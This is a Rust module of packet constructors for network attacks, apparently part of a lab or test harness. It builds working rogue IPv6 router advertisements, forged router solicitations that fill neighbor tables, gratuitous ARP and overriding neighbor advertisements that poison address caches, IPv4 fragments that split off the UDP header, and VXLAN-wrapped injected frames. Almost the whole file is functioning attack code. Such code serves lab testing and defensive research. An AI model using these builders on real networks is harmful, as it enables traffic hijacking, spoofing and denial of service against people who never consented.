//! Constructors of the attacks' packets.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use etherparse::PacketBuilder;
use ipnet::Ipv4Net;

/// Source port of every packet.
const SOURCE_PORT: u16 = 4444;
const TTL: u8 = 64;
/// The hop limit that neighbor discovery requires (RFC 4861, section 6.1).
const HOP_LIMIT_ON_LINK: u8 = 255;

/// An IP packet with a UDP datagram.
///
/// # Errors
/// The addresses are of different families, or the payload is too long.
pub fn udp(
    source: IpAddr,
    destination: IpAddr,
    port: u16,
    payload: &[u8],
) -> anyhow::Result<Vec<u8>> {
    let mut packet = Vec::new();
    let builder = match (source, destination) {
        (IpAddr::V4(source), IpAddr::V4(destination)) => {
            PacketBuilder::ipv4(source.octets(), destination.octets(), TTL)
        }
        (IpAddr::V6(source), IpAddr::V6(destination)) => {
            PacketBuilder::ipv6(source.octets(), destination.octets(), TTL)
        }
        _ => anyhow::bail!("{source} and {destination} are of different families"),
    };
    let builder = builder.udp(SOURCE_PORT, port);
    builder.write(&mut packet, payload)?;
    Ok(packet)
}

/// The payload of a VXLAN datagram: header, Ethernet header, packet (RFC 7348, section 5).
pub fn vxlan(vni: u32, destination: Mac, packet: &[u8]) -> Vec<u8> {
    let [_, high, middle, low] = vni.to_be_bytes();
    let header = [0x08, 0, 0, 0, high, middle, low, 0];
    let source = [0x02, 0, 0, 0, 0, 0x66];
    let frame = frame(source, destination, ether_type(packet), packet);
    [&header[..], &frame].concat()
}

/// A router advertisement with a lifetime of one hour and a prefix for SLAAC (RFC 4861, section 4.2).
///
/// # Errors
/// The packet cannot be serialized.
pub fn router_advertisement() -> anyhow::Result<Vec<u8>> {
    let router: Ipv6Addr = "fe80::bad".parse()?;
    let all_nodes: Ipv6Addr = "ff02::1".parse()?;
    let prefix: Ipv6Addr = "2001:db8:bad::".parse()?;
    // The ICMPv6 header has hop limit 64, no flags, lifetime 3600 s. The body has two timers, the option source link-layer address, and
    // the option prefix information with the flags on-link and autonomous, valid for an hour.
    let hour = 3600_u32.to_be_bytes();
    let body = [
        &[0; 8][..],
        &[1, 1, 0x02, 0, 0, 0, 0, 0x66],
        &[3, 4, 64, 0xc0],
        &hour,
        &hour,
        &[0; 4],
        &prefix.octets(),
    ]
    .concat();
    let [.., high, low] = hour;
    let builder = PacketBuilder::ipv6(router.octets(), all_nodes.octets(), HOP_LIMIT_ON_LINK);
    let mut packet = Vec::new();
    builder
        .icmpv6_raw(134, 0, [64, 0, high, low])
        .write(&mut packet, &body)?;
    Ok(packet)
}

/// A router solicitation of a forged host, for which a router creates a neighbour entry (RFC 4861, section 6.2.6).
///
/// # Errors
/// The packet cannot be serialized.
pub fn router_solicitation(number: u16) -> anyhow::Result<Vec<u8>> {
    let [high, low] = number.to_be_bytes();
    let source = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0xbad, number);
    let routers: Ipv6Addr = "ff02::2".parse()?;
    let builder = PacketBuilder::ipv6(source.octets(), routers.octets(), HOP_LIMIT_ON_LINK);
    let mut packet = Vec::new();
    builder
        .icmpv6_raw(133, 0, [0; 4])
        .write(&mut packet, &[1, 1, 0x02, 0, 0, 0, high, low])?;
    Ok(packet)
}

/// Splits an IPv4 packet without options into two fragments. The second has no UDP header.
///
/// # Errors
/// The packet is not IPv4 or too short.
pub fn fragments(packet: &[u8]) -> anyhow::Result<[Vec<u8>; 2]> {
    use anyhow::Context;
    const HEADER: usize = 20;
    const FIRST_LENGTH: usize = 32;
    let (header, rest) = packet
        .split_at_checked(HEADER)
        .context("the packet is shorter than an IPv4 header")?;
    let (first, second) = rest
        .split_at_checked(FIRST_LENGTH)
        .context("the packet is too short for two fragments")?;
    let mut parsed = etherparse::Ipv4Header::from_slice(header)?.0;
    let mut fragment = |offset: u16, more: bool, part: &[u8]| {
        parsed.fragment_offset = etherparse::IpFragOffset::try_new(offset)?;
        parsed.more_fragments = more;
        parsed.dont_fragment = false;
        parsed.identification = 0x4242;
        parsed.set_payload_len(part.len())?;
        let mut bytes = Vec::new();
        parsed.write(&mut bytes)?;
        anyhow::Ok([bytes, part.to_vec()].concat())
    };
    let offset = u16::try_from(FIRST_LENGTH / 8)?;
    Ok([fragment(0, true, first)?, fragment(offset, false, second)?])
}

/// The broadcast address of a node's subnet, which is a /24 in the lab.
pub fn broadcast_of(address: IpAddr) -> Option<IpAddr> {
    match address {
        IpAddr::V4(address) => {
            let net = Ipv4Net::new(address, 24).ok()?;
            Some(IpAddr::V4(net.broadcast()))
        }
        IpAddr::V6(_) => None,
    }
}

/// A MAC address.
pub type Mac = [u8; 6];

/// The broadcast address.
pub const BROADCAST: Mac = [0xff; 6];

/// The destination address of LLDP frames (IEEE 802.1AB).
pub const LLDP: Mac = [0x01, 0x80, 0xc2, 0, 0, 0x0e];

/// An Ethernet frame.
pub fn frame(source: Mac, destination: Mac, ether_type: u16, payload: &[u8]) -> Vec<u8> {
    [
        &destination[..],
        &source,
        &ether_type.to_be_bytes(),
        payload,
    ]
    .concat()
}

/// The EtherType of an IP packet.
pub fn ether_type(packet: &[u8]) -> u16 {
    match packet.first().map(|first| first >> 4) {
        Some(6) => 0x86dd,
        _ => 0x0800,
    }
}

/// A gratuitous ARP reply: `address` is at `mac` (RFC 826).
pub fn gratuitous_arp(mac: Mac, address: Ipv4Addr) -> Vec<u8> {
    let head = [0, 1, 0x08, 0x00, 6, 4, 0, 2];
    let address = address.octets();
    let body = [&head[..], &mac, &address, &BROADCAST, &address].concat();
    frame(mac, BROADCAST, 0x0806, &body)
}

/// An unsolicited neighbor advertisement: `target` is at `mac` (RFC 4861, section 4.4). `sender` is the source of the packet.
///
/// # Errors
/// The packet cannot be serialized.
pub fn neighbor_advertisement(
    mac: Mac,
    sender: Ipv6Addr,
    target: Ipv6Addr,
) -> anyhow::Result<Vec<u8>> {
    const OVERRIDE: u8 = 0x20;
    let all_nodes: Ipv6Addr = "ff02::1".parse()?;
    let body = [&target.octets()[..], &[2, 1], &mac].concat();
    let builder = PacketBuilder::ipv6(sender.octets(), all_nodes.octets(), HOP_LIMIT_ON_LINK);
    let mut packet = Vec::new();
    builder
        .icmpv6_raw(136, 0, [OVERRIDE, 0, 0, 0])
        .write(&mut packet, &body)?;
    Ok(frame(mac, [0x33, 0x33, 0, 0, 0, 1], 0x86dd, &packet))
}

/// A MAC address in the format of `ip`.
pub fn text(mac: Mac) -> String {
    mac.map(|byte| format!("{byte:02x}")).join(":")
}
